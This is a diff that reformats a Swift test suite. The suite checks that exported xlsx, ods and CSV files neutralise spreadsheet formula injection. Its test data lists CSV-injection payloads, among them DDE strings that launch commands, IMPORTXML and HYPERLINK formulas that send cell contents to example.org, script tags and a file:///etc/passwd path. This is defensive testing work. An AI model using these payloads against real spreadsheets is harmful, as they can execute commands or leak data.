@@ -10,17 +10,23 @@ import Testing
 @Suite struct HostileTextTests {
     /// As attacks on spreadsheets begin (OWASP, "CSV Injection").
     static let attacks = [
-        "=1+1", "=cmd|'/C calc'!A0", "=HYPERLINK(\"https://example.org/\"&A1,\"Click\")", "@SUM(1+1)",
+        "=1+1", "=cmd|'/C calc'!A0", "=HYPERLINK(\"https://example.org/\"&A1,\"Click\")",
+        "@SUM(1+1)",
         "+1+1", "-1+1", "-2+3+cmd|' /C calc'!D2", "=DDE(\"cmd\";\"/C calc\";\"x\")", "\t=1+1",
-        "=IMPORTXML(CONCAT(\"https://example.org?v=\",A1),\"//a\")", "=WEBSERVICE(\"https://example.org\")",
-        "javascript:alert(1)", "<script>alert(1)</script>", "file:///etc/passwd", "of:=1+1", "msoxl:=1+1",
-        "'=1+1", "''=1+1", "＝1+1", "＠SUM(1)", "]]>", "</text:p><table:table-cell table:formula=\"of:=1\"/>",
-        "\"><f>1+1</f>", "{=1+1}", "_x003D_1+1", "#REF!", "%0A=1+1", "-", "- a list", "+44 113 496 0000",
+        "=IMPORTXML(CONCAT(\"https://example.org?v=\",A1),\"//a\")",
+        "=WEBSERVICE(\"https://example.org\")",
+        "javascript:alert(1)", "<script>alert(1)</script>", "file:///etc/passwd", "of:=1+1",
+        "msoxl:=1+1",
+        "'=1+1", "''=1+1", "＝1+1", "＠SUM(1)", "]]>",
+        "</text:p><table:table-cell table:formula=\"of:=1\"/>",
+        "\"><f>1+1</f>", "{=1+1}", "_x003D_1+1", "#REF!", "%0A=1+1", "-", "- a list",
+        "+44 113 496 0000",
     ]
 
     private static func texts(_ count: Int) -> [String] {
         var random = SplitMix64(seed: 9)
-        let parts = attacks + ["\"", "'", ",", ";", "\n", " ", "&", "<", ">", "A1", "=", "|", "é", "£6m"]
+        let parts =
+            attacks + ["\"", "'", ",", ";", "\n", " ", "&", "<", ">", "A1", "=", "|", "é", "£6m"]
         return attacks
             + (0..<count).map { _ in
                 (0...Int.random(in: 0...3, using: &random)).map { _ in
@@ -30,7 +36,9 @@ import Testing
     }
 
     @Test(arguments: ["xlsx", "ods"])
-    func `no text becomes a formula in a workbook, and each comes back as it is`(form: String) throws {
+    func `no text becomes a formula in a workbook, and each comes back as it is`(form: String)
+        throws
+    {
         let texts = HostileTextTests.texts(400)
         let files = try (0..<2).map { _ in try written(texts, form) }
         #expect(files[0] == files[1], "the same workbook has the same bytes")
@@ -67,13 +75,16 @@ import Testing
         return [UInt8](try Data(contentsOf: URL(filePath: path)))
     }
 
-    @Test func `no text begins a formula in a table of comma-separated values, and each comes back`() {
+    @Test
+    func `no text begins a formula in a table of comma-separated values, and each comes back`() {
         let texts = HostileTextTests.texts(2000)
         let file = csvText([["text"]] + texts.map { [$0] })
         let table = CSVTable(scanning: Array(file.utf8))
         for text in texts {
             let field = plainText(text)
-            let isGuarded = !field.unicodeScalars.prefix(1).contains { "=@\t＝＠".unicodeScalars.contains($0) }
+            let isGuarded = !field.unicodeScalars.prefix(1).contains {
+                "=@\t＝＠".unicodeScalars.contains($0)
+            }
             #expect(isGuarded, "\(text)")
             let read = CSVTable(scanning: Array(csvText([["a", "b"], [text, "x"]]).utf8))
             #expect(read.rows.isEmpty || read[0, 0]?.text == text, "\(text)")
@@ -82,10 +93,14 @@ import Testing
     }
 
     @Test(arguments: [
-        ("-5", "-5"), ("+0.50", "+0.50"), ("-1,234.5", "-1,234.5"), ("-12.5%", "-12.5%"), ("-1e-07", "-1e-07"),
+        ("-5", "-5"), ("+0.50", "+0.50"), ("-1,234.5", "-1,234.5"), ("-12.5%", "-12.5%"),
+        ("-1e-07", "-1e-07"),
         ("-", "-"), ("+", "+"), ("", ""), ("a=1", "a=1"), ("-£5", "'-£5"), ("-1+1", "'-1+1"),
         ("-1e", "'-1e"), ("=1", "'=1"), ("'=1", "''=1"), ("'a", "'a"), ("-5%+1", "'-5%+1"),
-    ]) func `numbers stay numbers, and what only looks like one does not`(text: String, expected: String) {
+    ]) func `numbers stay numbers, and what only looks like one does not`(
+        text: String,
+        expected: String
+    ) {
         #expect(plainText(text) == expected)
     }
 }
